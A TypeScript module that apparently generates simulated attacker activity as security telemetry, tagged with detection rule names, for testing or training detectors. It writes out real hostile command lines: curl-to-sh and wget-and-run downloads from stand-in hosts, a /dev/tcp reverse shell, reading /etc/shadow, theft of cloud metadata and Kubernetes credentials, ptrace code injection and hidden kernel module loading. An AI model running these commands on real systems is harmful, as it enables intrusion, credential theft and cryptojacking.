import { hostileAddresses } from '../catalogue/network.js';
import { rogueModules } from '../catalogue/kernel.js';
import type { Command } from '../catalogue/commands.js';
import type { EventDraft, Story } from '../event-draft.js';
import type { Host } from '../host.js';
import type { ProcessImage } from '../process-image.js';
import { chmodFile, unlinkFile } from './file-activity.js';
import { loadModule, mapMemory, protectMemory, traceProcess } from './kernel-activity.js';
import { connectEvent, lookUp, stealCredentials } from './network-activity.js';
import { execEvent, exitEvent, openEvent, runCommand } from './program-events.js';

type Events = Generator<EventDraft, void>;

/** Attackers, the most common first. */
export const attacks: readonly Story[] = [
  downloadAndRun,
  mineCoins,
  reverseShell,
  readPasswordHashes,
  stealCloudCredentials,
  injectCode,
  hideInKernel,
];

/** `curl | sh`: the shell reads from the download and runs what it says. */
function* downloadAndRun(host: Host): Events {
  const shell = yield* breakIn(host, 'curl -s http://paste.dropzone.example/x | sh');
  yield lookUp(host, shell, 'paste.dropzone.example');
  yield* runCommand(host, shell, ['/usr/bin/curl', '-s', 'http://paste.dropzone.example/x']);
  const script = host.start(shell, { path: '/bin/sh', args: ['-s'] });
  yield execEvent(host, script);
  yield* lookAround(host, script);
  yield unlinkFile(host, script);
  yield* leave(host, [script, shell]);
}

function* mineCoins(host: Host): Events {
  const shell = yield* breakIn(host, 'cd /tmp && wget -q http://pool.coin-farm.example/w -O .w && chmod +x .w && ./.w');
  yield* runCommand(host, shell, ['/usr/bin/wget', '-q', 'http://pool.coin-farm.example/w', '-O', '.w']);
  yield { ...chmodFile(host, shell), rule: 'file_made_executable' };
  const miner = host.start(shell, {
    path: '/tmp/.w',
    args: ['-o', 'stratum+tcp://pool.coin-farm.example:3333', '-u', '44xquCZRP7k5QVc', '--donate-level', '0'],
  });
  yield execEvent(host, miner);
  yield lookUp(host, miner, 'pool.coin-farm.example');
  yield mapMemory(host, miner);
  yield* leave(host, [miner, shell], 137);
}

/** The shell replaces itself twice on its pid: `exec` after `exec`. */
function* reverseShell(host: Host): Events {
  const address = host.random.pick(hostileAddresses);
  const shell = yield* breakIn(host, `exec bash -c 'exec sh -i <&3 >&3 2>&3' 3<>/dev/tcp/${address}/4444`);
  const second = host.exec(shell, { path: '/bin/bash', args: ['-c', 'exec sh -i <&3 >&3 2>&3'] });
  yield execEvent(host, second);
  yield connectEvent(host, second, address);
  const third = host.exec(second, { path: '/bin/sh', args: ['-i'] });
  yield execEvent(host, third, 'shell_spawned_by_service');
  yield* lookAround(host, third);
  yield* leave(host, [third], 129);
}

function* readPasswordHashes(host: Host): Events {
  const shell = yield* breakIn(host, 'cat /etc/shadow | base64 -w0');
  const reader = host.start(shell, { path: '/usr/bin/cat', args: ['/etc/shadow'] });
  yield execEvent(host, reader);
  const outcome = reader.credentials.effective.uid === 0 ? 'Success' : 'Refused';
  yield openEvent(host, reader, '/etc/shadow', outcome);
  yield* runCommand(host, shell, ['/usr/bin/base64', '-w0']);
  yield* leave(host, [reader, shell]);
}

function* stealCloudCredentials(host: Host): Events {
  const url = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role';
  const shell = yield* breakIn(host, `curl -s ${url}`);
  const client = host.start(shell, { path: '/usr/bin/curl', args: ['-s', url] });
  yield execEvent(host, client);
  yield stealCredentials(host, client, false);
  yield openEvent(host, shell, '/var/run/secrets/kubernetes.io/serviceaccount/token');
  yield* leave(host, [client, shell]);
}

/** A debugger writes code into a service and lets it run there. */
function* injectCode(host: Host): Events {
  const victim = host.random.pick(host.daemons);
  const shell = yield* breakIn(host, `gdb -p ${victim.pid} -batch -x /tmp/.i`);
  const debuggerImage = host.start(shell, {
    path: '/usr/bin/gdb',
    args: ['-p', String(victim.pid), '-batch', '-x', '/tmp/.i'],
  });
  yield execEvent(host, debuggerImage);
  yield openEvent(host, debuggerImage, `/proc/${victim.pid}/maps`);
  yield { ...traceProcess(host, debuggerImage, victim, 'PTRACE_ATTACH'), rule: 'process_traced' };
  yield { ...traceProcess(host, debuggerImage, victim, 'PTRACE_POKETEXT'), rule: 'code_injected' };
  yield protectMemory(host, victim);
  yield* leave(host, [debuggerImage, shell]);
}

function* hideInKernel(host: Host): Events {
  const shell = yield* breakIn(host, 'insmod /dev/shm/.k.ko');
  const name = host.random.pick(rogueModules);
  const loader = host.start(shell, { path: '/usr/bin/kmod', argv0: 'insmod', args: [`/dev/shm/.${name}.ko`] });
  yield execEvent(host, loader);
  yield loadModule(host, loader, name, host.random.chance(0.7));
  yield { ...unlinkFile(host, loader), rule: 'log_deleted' };
  yield* leave(host, [loader, shell]);
}

/** Through a hole in an application, or with somebody's stolen key. */
function* breakIn(host: Host, line: string): Generator<EventDraft, ProcessImage> {
  const door = host.random.chance(0.7)
    ? host.random.pickZipf(host.random.pickZipf(host.containers).processes)
    : host.random.pickZipf(host.daemons);
  const shell = host.start(door, { path: '/bin/sh', args: ['-c', line] });
  yield execEvent(host, shell, 'shell_spawned_by_service');
  return shell;
}

function* lookAround(host: Host, shell: ProcessImage): Events {
  const commands: readonly Command[] = [
    ['/usr/bin/id'],
    ['/usr/bin/ps', 'aux'],
    ['/usr/bin/find', '/', '-perm', '-4000'],
    ['/usr/bin/cat', '/proc/1/cgroup'],
  ];
  for (const command of commands.slice(0, host.random.between(1, commands.length)))
    yield* runCommand(host, shell, command);
}

/** The last process ends with an event, the others before it without. */
function* leave(host: Host, images: readonly ProcessImage[], code = 0): Events {
  for (const image of images.slice(0, -1)) host.exit(image);
  const last = images.at(-1);
  if (last) yield exitEvent(host, last, code);
}
